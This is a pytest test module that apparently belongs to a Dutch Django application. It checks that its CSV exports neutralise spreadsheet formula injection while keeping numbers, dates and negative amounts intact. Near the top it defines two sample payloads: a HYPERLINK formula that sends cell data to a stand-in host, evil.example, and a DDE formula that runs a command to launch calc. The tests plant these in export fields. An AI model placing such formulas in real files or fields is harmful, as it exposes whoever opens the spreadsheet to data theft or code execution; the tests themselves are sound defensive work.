"""Every CSV the application makes: a text a user typed never arrives in a spreadsheet as a formula,
and numbers and dates stay numbers and dates (``core.csv_export``)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from netwerkregie.core.csv_export import cell
from netwerkregie.core.roles import Role
from netwerkregie.network.models import Neighbourhood, Organisation, Sector
from netwerkregie.programmes import services
from tests.conftest import verified_client
from tests.network_helpers import activity

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
LINK = '=HYPERLINK("http://evil.example/?d="&A1;"Klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def cells(rows: list[list[str]]) -> set[str]:
    return {value for row in rows for value in row}


def assert_no_formula(rows: list[list[str]]) -> None:
    assert not [value for value in cells(rows) if value[:1] in ("=", "+", "@", "\t", "\r", "\n")]
    assert not [value for value in cells(rows) if value.startswith("-") and not value[1:2].isdigit()]


@pytest.mark.parametrize("typed", ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1", LINK])
def test_a_text_starting_like_a_formula_gets_a_quote_in_front(typed: str) -> None:
    assert cell(typed) == f"'{typed}"


@pytest.mark.parametrize(("value", "written"), [
    (Decimal("-12.50"), "-12,50"), (Decimal("1000"), "1000,00"), (-3, "-3"), (0, "0"), (7.25, "7,25"),
    (datetime.date(2026, 3, 1), "2026-03-01"), (None, ""), ("Moedertraining", "Moedertraining"),
    ("a=b", "a=b"), ("'=1", "'=1"),
])
def test_numbers_and_dates_stay_what_they_are(value: object, written: str) -> None:
    assert cell(value) == written


def test_the_budget_export_neutralises_descriptions_and_activity_titles_but_keeps_negative_amounts(users) -> None:
    officer = users[Role.PROGRAMME_OFFICER]
    services.save_budget(TODAY.year, "municipal", Decimal("100.00"), "", actor=officer)
    training = activity(officer, [], title=DDE)
    services.record_expense(services.ExpenseInput(TODAY, "municipal", Decimal("112.50"), LINK, "other",
                                                  activity=training, overspend_confirmed=True), actor=officer)
    rows = rows_of(verified_client(officer).get(reverse("programmes:budget_csv")))
    assert rows[1][2:5] == ["100,00", "112,50", "-12,50"]  # overspent: the remainder is a negative number
    expense = rows[-1]
    assert expense[0] == TODAY.isoformat()
    assert expense[2] == "112,50"
    assert expense[4] == f"'{LINK}"
    assert expense[5] == f"'{DDE}"
    assert_no_formula(rows)


def test_the_reach_export_neutralises_every_typed_column(users) -> None:
    officer = users[Role.PROGRAMME_OFFICER]
    hood = Neighbourhood.objects.create(name="-Noord+1", code="noord")
    partner = Organisation.objects.create(name="=Welzijn()", sector=Sector.SOCIAL_WORK)
    activity(officer, [partner], title=LINK, audience="@ouders", neighbourhood=hood, participants=14,
             average_rating=Decimal("7.5"))
    rows = rows_of(verified_client(officer).get(reverse("programmes:reach_csv")))
    [line] = [row for row in rows[1:] if len(row) == 9]
    assert line == [TODAY.isoformat(), TODAY.isoformat(), line[2], f"'{LINK}", "'-Noord+1", "'@ouders", "14",
                    "'=Welzijn()", "7,50"]
    assert rows[-1][2:] == ["1", "14"]
    assert_no_formula(rows)


def test_the_figures_export_neutralises_neighbourhood_names(users) -> None:
    Neighbourhood.objects.create(name="=HYPERLINK(1)", code="evil")
    Neighbourhood.objects.create(name="+Zuid", code="zuid")
    rows = rows_of(verified_client(users[Role.ANALYST]).get(reverse("reports:export_csv"), {"year": TODAY.year}))
    labels = {row[2] for row in rows if len(row) == 4}
    assert {"'=HYPERLINK(1)", "'+Zuid"} <= labels
    assert_no_formula(rows)


def test_a_formula_after_a_comma_stays_in_its_cell_when_a_spreadsheet_splits_on_commas() -> None:
    from netwerkregie.core.csv_export import csv_response

    response = csv_response("x.csv", [["x,=HYPERLINK(A1),", 3, Decimal("-12.50")]])
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    as_comma_separated = next(csv.reader(io.StringIO(text), delimiter=","))
    assert not any(field.lstrip().startswith("=") for field in as_comma_separated)
    assert next(csv.reader(io.StringIO(text), delimiter=";")) == [
        "x,=HYPERLINK(A1),", "3", "-12,50"]
